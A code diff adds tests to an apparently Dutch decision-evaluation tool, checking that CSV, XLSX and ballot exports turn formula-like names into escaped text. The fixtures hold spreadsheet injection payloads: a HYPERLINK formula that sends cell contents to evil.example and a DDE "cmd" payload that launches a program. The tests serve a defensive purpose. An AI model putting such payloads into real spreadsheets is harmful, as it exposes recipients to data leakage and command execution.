@@ -465,3 +465,98 @@ def test_a_wal_mode_file_is_refused_unread(project):
         Store.open(project, readonly=True)
     assert _digest(project) == before
     assert sorted(p.name for p in project.parent.iterdir()) == [project.name]
+
+
+# -- 5. names that a spreadsheet would run ------------------------------------------------------------------------
+
+EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
+        "'=al geëscaped", "'s-Hertogenbosch", "gewoon"]  # fmt: skip
+
+
+def _evil_csv(tmp_path: Path) -> Path:
+    src = tmp_path / "evil.csv"
+    with open(src, "w", newline="", encoding="utf-8") as f:
+        import csv
+
+        w = csv.writer(f)
+        w.writerow(["alternative", "=1+1", "@kosten", "-korting"])
+        w.writerow(["objective", "max", "min", "max"])
+        w.writerow(["weight", 0.5, 0.25, 0.25])
+        for i, name in enumerate(EVIL):
+            w.writerow([name, i, -1.5 - i, 3])
+    return src  # (the reader takes an apostrophe before =, +, -, @ as the escape: "'=al" is read as "=al")
+
+
+def test_exported_csv_and_xlsx_hold_text_not_formulas_and_read_back_the_same(tmp_path, capsys):
+    import csv
+
+    import openpyxl
+
+    src = _evil_csv(tmp_path)
+    project = tmp_path / "p.afweging"
+    assert _cli(capsys, "import", src, "--out", project)[0] == 0
+    with Store.open(project, readonly=True) as st:
+        names = [a.name for a in st.evaluation.alternatives]
+        criteria = [c.name for c in st.evaluation.criteria]
+    assert _cli(capsys, "export", project, "--out", tmp_path / "out.csv")[0] == 0
+    assert _cli(capsys, "export", project, "--out", tmp_path / "out.xlsx")[0] == 0
+
+    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@")), cell  # OWASP: no cell a spreadsheet would evaluate
+            if cell.startswith("-"):
+                float(cell)  # a negative number stays a number
+    assert rows[3][0] == "'" + EVIL[0] and rows[3][2] == repr(-1.5)
+
+    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
+    ws = wb.active
+    for row in ws.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.coordinate
+            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
+                assert cell.data_type == "s" and cell.quotePrefix
+    assert ws["A4"].value == EVIL[0]
+    assert isinstance(ws["C4"].value, float) and ws["C4"].value == -1.5
+
+    for out in ("out.csv", "out.xlsx"):  # the round trip keeps every name
+        again = tmp_path / f"again-{out}.afweging"
+        code, _, err = _cli(capsys, "import", tmp_path / out, "--out", again)
+        assert code == 0, err
+        with Store.open(again, readonly=True) as st:
+            assert [a.name for a in st.evaluation.alternatives] == names
+            assert [c.name for c in st.evaluation.criteria] == criteria
+
+
+def test_a_ballot_with_formula_like_names_is_text_and_imports(tmp_path, capsys):
+    import openpyxl
+
+    from evaluator.changes import UpdateCriterion
+
+    project = tmp_path / "p.afweging"
+    ev = small_evaluation()
+    with Store.create(project, ev) as st:
+        st.apply(SetSetting("title", '=HYPERLINK("http://evil.example")'))
+        c = st.evaluation.criterion("S1")
+        from dataclasses import replace
+
+        st.apply(UpdateCriterion(replace(c, name={"nl": "=cmd|' /C calc'!A0", "en": "@x"},
+                                         description={"nl": "+1", "en": "-1"})))  # fmt: skip
+    ballot = tmp_path / "b.xlsx"
+    code, _, err = _cli(
+        capsys, "ballot", "export", project, "--participant", "Anna", "--add", "--out", ballot
+    )
+    assert code == 0, err
+    wb = openpyxl.load_workbook(ballot)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    ws = wb.worksheets[0]
+    assert ws["C2"].value == "=cmd|' /C calc'!A0" and ws["C2"].quotePrefix
+    for i in range(2, 2 + len(ev.criteria)):
+        ws.cell(i, 5).value = 10 * i
+    wb.save(ballot)
+    code, out, err = _cli(capsys, "ballot", "import", project, ballot)
+    assert code == 0, err
